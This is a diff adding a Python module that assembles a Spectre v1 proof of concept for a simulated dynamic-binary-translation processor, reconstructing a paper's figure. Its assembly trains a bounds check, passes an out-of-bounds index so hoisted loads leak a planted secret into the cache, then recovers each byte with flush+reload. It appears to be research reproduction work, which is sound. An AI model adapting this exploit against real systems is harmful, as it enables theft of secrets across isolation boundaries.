@@ -1,0 +1,148 @@
+"""Spectre v1 on the DBT platform: trace-scheduling speculation.
+
+Reconstruction of the paper's Figure 1 PoC, adapted to DBT speculation as
+Section III-A describes: the attacker first *trains* — executing the
+victim with in-bounds indexes so the DBT engine (a) sees the bounds-check
+branch as strongly biased not-taken, (b) merges the check and the
+dependent loads into one superblock, and (c) lets the scheduler hoist the
+two loads above the branch into hidden registers.  The attack call then
+passes an out-of-bounds index: the hoisted loads execute regardless of
+the (taken) bounds check, pulling ``array_val[secret << 6]`` into the
+cache, and a flush+reload pass recovers the byte.
+
+The bounds value is read through a short pointer chase so the branch's
+operands are ready *late* in the static schedule — the DBT-world analogue
+of the classical trick of flushing the bound so the branch resolves
+slowly.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from ..isa.assembler import assemble
+from ..isa.program import Program
+from .sidechannel import (
+    DEFAULT_THRESHOLD,
+    LINE_SIZE,
+    PROBE_ENTRIES,
+    flush_probe_array,
+    probe_and_classify,
+    record_recovered,
+    write_and_exit,
+)
+
+#: The planted secret.  Bytes must be non-zero: value 0 is the probe
+#: entry excluded by the classifier (see probe_and_classify).
+DEFAULT_SECRET = b"GHOSTBUSTERS!"
+
+#: In-bounds buffer size the victim checks against.
+BUFFER_SIZE = 16
+
+
+@dataclass(frozen=True)
+class SpectreV1Config:
+    """Attack parameters."""
+
+    secret: bytes = DEFAULT_SECRET
+    #: Training calls before the attack rounds (must exceed the engine's
+    #: hot threshold and the profiler's minimum branch samples).
+    train_calls: int = 48
+    threshold: int = DEFAULT_THRESHOLD
+
+    def __post_init__(self) -> None:
+        if not self.secret:
+            raise ValueError("secret must be non-empty")
+        if 0 in self.secret:
+            raise ValueError("secret bytes must be non-zero (0 = 'no hit')")
+
+
+_SOURCE_TEMPLATE = """
+# ---- Spectre v1 on a DBT-based processor (paper Figure 1 / Sec. III-A)
+.equ SECRET_LEN, {secret_len}
+.equ TRAIN_CALLS, {train_calls}
+
+_start:
+    # --- Phase 1: training.  In-bounds calls make the victim hot, bias
+    # the bounds check not-taken, and trigger superblock optimization.
+    li s0, 0
+train_loop:
+    andi a0, s0, 7
+    call victim
+    addi s0, s0, 1
+    li t0, TRAIN_CALLS
+    blt s0, t0, train_loop
+
+    # --- Phase 2: one round per secret byte.
+    li s6, 0
+round_loop:
+{flush}
+    # Malicious index: &secret[round] - &buffer (way out of bounds).
+    la a0, secret
+    add a0, a0, s6
+    la t0, buffer
+    sub a0, a0, t0
+    call victim
+{probe}
+{record}
+    addi s6, s6, 1
+    li t0, SECRET_LEN
+    blt s6, t0, round_loop
+{epilogue}
+
+# ---- The victim (Figure 1): bounds check guarding a dependent double
+# load.  The bound is fetched through a pointer chase so the branch is
+# late in the static schedule and the loads get hoisted above it.
+victim:
+    la t0, size_ptr
+    ld t0, 0(t0)
+    ld t0, 0(t0)
+    ld t0, 0(t0)
+    bgeu a0, t0, victim_done
+    la t1, buffer
+    add t1, t1, a0
+    lbu t2, 0(t1)            # char a = buffer[index]     (speculated)
+    slli t2, t2, 6           # a * LINE_SIZE
+    la t3, array_val
+    add t3, t3, t2
+    lbu t4, 0(t3)            # char b = array_val[a*64]   (the leak)
+victim_done:
+    ret
+
+.data
+size_ptr:
+    .dword size_cell_a
+size_cell_a:
+    .dword size_cell_b
+size_cell_b:
+    .dword {buffer_size}
+buffer:
+    .space {buffer_size}
+secret:
+{secret_bytes}
+.align 6
+array_val:
+    .space {probe_bytes}
+recovered:
+    .space {recovered_space}
+"""
+
+
+def build_program(config: SpectreV1Config = SpectreV1Config()) -> Program:
+    """Assemble the complete Spectre v1 guest program."""
+    secret_bytes = "\n".join(
+        "    .byte %d" % value for value in config.secret
+    )
+    source = _SOURCE_TEMPLATE.format(
+        secret_len=len(config.secret),
+        train_calls=config.train_calls,
+        flush=flush_probe_array("flush_v1"),
+        probe=probe_and_classify("probe_v1", threshold=config.threshold),
+        record=record_recovered(),
+        epilogue=write_and_exit(),
+        buffer_size=BUFFER_SIZE,
+        secret_bytes=secret_bytes,
+        probe_bytes=PROBE_ENTRIES * LINE_SIZE,
+        recovered_space=max(8, len(config.secret)),
+    )
+    return assemble(source)
